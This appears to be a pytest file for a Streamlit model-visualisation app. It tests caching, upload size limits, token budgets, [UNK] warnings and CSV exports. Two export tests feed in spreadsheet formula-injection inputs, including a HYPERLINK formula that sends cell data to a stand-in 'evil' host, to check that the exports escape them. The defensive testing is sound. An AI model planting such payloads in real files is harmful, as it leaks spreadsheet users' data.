"""The pages that run the model on many texts, under AppTest: Contrast keeps a few vectors per
sentence (not its trace) and says what it leaves out; the probe refuses a file by its size
before reading it, reads a bounded number of tokens, warns about [UNK] and offers a model that
reads the texts; the CSVs it writes cannot run formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io
import uuid

import numpy as np
import pytest
from streamlit.runtime.uploaded_file_manager import UploadedFile

import viz.capture
from tests.drivers import charts, chinese_reader, new_app, no_problem
from viz import capture
from viz.analysis import probe as probing
from viz.models import DEFAULT_MODEL
from viz.ui.pages import contrast as contrast_page
from viz.ui.pages import export as export_page
from viz.ui.pages import probe as probe_page

WORDS = "the old man walked along the quiet road toward the small village near the river".split()


def sentence(tokens: int, seed: int) -> str:
    """About ``tokens`` one-token words with "bank" fourth, never seen before in this process
    (every page cache is shared by the whole test session)."""
    words = list(np.random.default_rng(seed).choice(WORDS, tokens))
    words[3] = "bank"
    words[5] = f"x{uuid.uuid4().hex[:6]}"  # a few pieces; keeps the text unique
    return " ".join(words)


@pytest.fixture
def traces(monkeypatch) -> list[tuple[str, tuple[str, ...] | None]]:
    """Every real forward pass of viz.capture.trace: (text, what it captured)."""
    calls: list[tuple[str, tuple[str, ...] | None]] = []
    real = viz.capture.trace

    def recording(encoder, text, pair=None, **options):
        only = options.get("only")
        calls.append((text, tuple(only) if only is not None else None))
        return real(encoder, text, pair, **options)

    monkeypatch.setattr(viz.capture, "trace", recording)
    return calls


def contrast_app(lines: list[str], word: str = "bank", lang: str = "en"):
    at = new_app(view="contrast", lang=lang)
    at.text_area(key="contrast_text").input("\n".join(lines))
    at.text_input(key="contrast_word").input(word).run()
    return at


# ---------------------------------------------------------------- Contrast
def test_contrast_captures_hidden_states_only_and_reruns_without_the_model(traces):
    lines = [f"{sentence(300, i)} | {'river' if i % 2 else 'money'}" for i in range(6)]
    texts = {line.rpartition("|")[0].strip() for line in lines}
    at = contrast_app(lines)
    assert no_problem(at) and charts(at) == 2
    ours = [(text, only) for text, only in traces if text in texts]
    assert sorted(text for text, _ in ours) == sorted(texts)  # one forward pass each
    assert {only for _, only in ours} == {("hidden_states",)}  # not the whole trace
    before = len(traces)
    at.run()  # a rerun: every sentence's reading is cached
    assert no_problem(at) and charts(at) == 2 and len(traces) == before


def test_contrast_keeps_a_few_hundred_kilobytes_per_long_sentence():
    reading = contrast_page.read_sentence(DEFAULT_MODEL, sentence(505, 99), "bank")
    assert reading.vectors.shape == (7, 384)
    assert reading.sample.shape == (7, contrast_page.BASELINE_TOKENS, 384)
    assert reading.vectors.nbytes + reading.sample.nbytes < 400_000  # the trace: ~120 MB


@pytest.mark.parametrize(
    ("lang", "too_many", "cut"),
    [
        ("en", "Only the first 20 sentences are read: the 2 lines after them", "#2: longer"),
        ("zh", "只读取前 20 个句子：其后的 2 行未被读取", "#2：超过了该模型"),
    ],
)
def test_contrast_says_which_lines_it_leaves_out_and_which_it_cuts(lang, too_many, cut):
    lines = [f"The bank {i} was near {uuid.uuid4().hex[:4]}." for i in range(22)]
    lines[1] = sentence(600, 7)  # past the model's 512 tokens
    at = contrast_app(lines, lang=lang)
    assert no_problem(at) and charts(at) == 2
    warnings = " ".join(w.value for w in at.warning)
    assert too_many in warnings and cut in warnings


# ---------------------------------------------------------------- the probe's upload
def unescaped(element) -> str:
    """A message as the user reads it (the page escapes Markdown in what it shows)."""
    return element.value.replace("\\", "")


def upload(at, data: bytes, name: str = "data.csv"):
    at.file_uploader(key="probe_file").upload(name, data, "text/csv").run()
    return at


def test_an_oversize_upload_is_refused_before_it_is_read(monkeypatch):
    reads = []
    real = UploadedFile.getvalue
    monkeypatch.setattr(UploadedFile, "getvalue", lambda self: reads.append(1) or real(self))
    at = new_app(view="probe", probe_source="upload")
    upload(at, b"text,label\n" + b"a," * 2_500_000)  # 5,000,011 bytes: over 5 MB, under 5 MiB
    assert not at.exception
    message = unescaped(at.error[0]) if at.error else ""
    assert message.startswith("The file is 5.000011 MB; the limit is 5 MB.")
    assert reads == []


def test_an_unclosed_quote_is_named_on_the_page_in_both_languages():
    data = b'text,label\ngood,pos\n"bad film,neg\nfine,pos\ndull,neg\n'
    at = upload(new_app(view="probe", probe_source="upload"), data)
    assert at.error and unescaped(at.error[0]).startswith('Line 3 opens a quote (") that is never')
    at = upload(new_app(view="probe", probe_source="upload", lang="zh"), data)
    assert at.error and unescaped(at.error[0]).startswith("第 3 行有一个引号")


def test_the_probe_reads_a_token_budget_of_texts_cut_at_128(monkeypatch):
    monkeypatch.setattr(probing, "TOKEN_BUDGET", 3000)
    seen = {}
    real = probe_page.worker().run

    def recording(func, *args, **options):
        _, _, texts, _, lengths, max_tokens, batch_tokens = args
        seen.update(rows=len(texts), lengths=lengths, max_tokens=max_tokens, batch=batch_tokens)
        return real(func, *args, **options)

    monkeypatch.setattr(probe_page.worker(), "run", recording)
    rows = ["text,label"] + [f"{sentence(200, i)},{'ab'[i % 2]}" for i in range(60)]
    at = upload(new_app(view="probe", probe_source="upload"), "\n".join(rows).encode())
    assert no_problem(at)
    assert any("60 of the 60 texts are longer than 128 tokens" in i.value for i in at.info)
    sampled = " ".join(w.value for w in at.warning)
    assert "One run reads at most 3,000 tokens" in sampled
    assert "the probe reads 23 of them" in sampled  # 23 x 128 tokens <= 3,000
    at.button(key="probe_run").click().run()
    assert no_problem(at) and charts(at) == 1
    assert seen["rows"] == 23 and seen["max_tokens"] == 128 and max(seen["lengths"]) == 128
    assert seen["batch"] == probe_page.BATCH_TOKENS <= 512
    assert "embeddings of the 23 texts probed" in at.get("download_button")[0].proto.label


# ---------------------------------------------------------------- [UNK] in the probe's texts
@pytest.mark.parametrize(
    ("lang", "words"), [("en", "not in this model's vocabulary"), ("zh", "不在该模型的词表里")]
)
def test_unknown_tokens_in_the_probe_are_said_and_a_reader_offered(
    tmp_path, monkeypatch, lang, words
):
    texts = ["我们在河边的银行门口见面", "然后去银行存钱", "花园里的花都开了", "她送给我一束花"]
    body = [f"{texts[i % 4]}{'我们花'[i % 3]},{'ab'[i % 2]}" for i in range(24)]
    reader = chinese_reader(tmp_path / "models" / "tiny-chinese", "".join(body))
    monkeypatch.setenv("VIZ_MODELS_DIR", str(tmp_path / "models"))
    from viz.ui.model_picker import local_models

    local_models.clear()
    try:
        at = new_app(view="probe", probe_source="upload", lang=lang)
        upload(at, "\n".join(["text,label", *body, f"{uuid.uuid4().hex},a"]).encode())
        assert no_problem(at)
        assert any(words in w.value for w in at.warning)
        at.button(key="probe_switch_reader").click().run()
        assert not at.exception
        assert at.sidebar.text_input(key="model").value == str(reader)
    finally:
        local_models.clear()


# ---------------------------------------------------------------- CSVs a spreadsheet opens
def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_probe_embeddings_csv_cannot_run_formulas():
    data = probing.LabelledTexts(
        ('=HYPERLINK("http://evil/?leak="&A1,"x")', "=1+1", "plain text"),
        ("@label", "-1", "+label"),
        0,
    )
    vectors = np.array([[-0.5, 1.0], [0.25, -2.0], [3.0, 0.0]], dtype=np.float32)
    rows = rows_of(probe_page.embeddings_csv(data, vectors))
    assert rows[0] == ["text", "label", "d0", "d1"]
    assert [r[0] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil/?leak="&A1,"x")',
        "'=1+1",
        "plain text",
    ]
    assert [r[1] for r in rows[1:]] == ["'@label", "-1", "'+label"]  # -1 is a number
    assert [float(r[2]) for r in rows[1:]] == [-0.5, 0.25, 3.0]


def test_the_export_token_csv_cannot_run_formulas(bundled):
    t = capture.trace(bundled, "=1+1 @home -5 sold")
    rows = rows_of(export_page.layer_csv(t, 6))
    assert rows[0][:3] == ["position", "token", "shown as"]
    tokens = [r[1] for r in rows[1:]]
    assert "'=" in tokens and "'@" in tokens and "'+" in tokens and "'-" in tokens
    assert "=" not in tokens and "sold" in tokens
    assert [int(r[0]) for r in rows[1:]] == list(range(t.num_tokens))
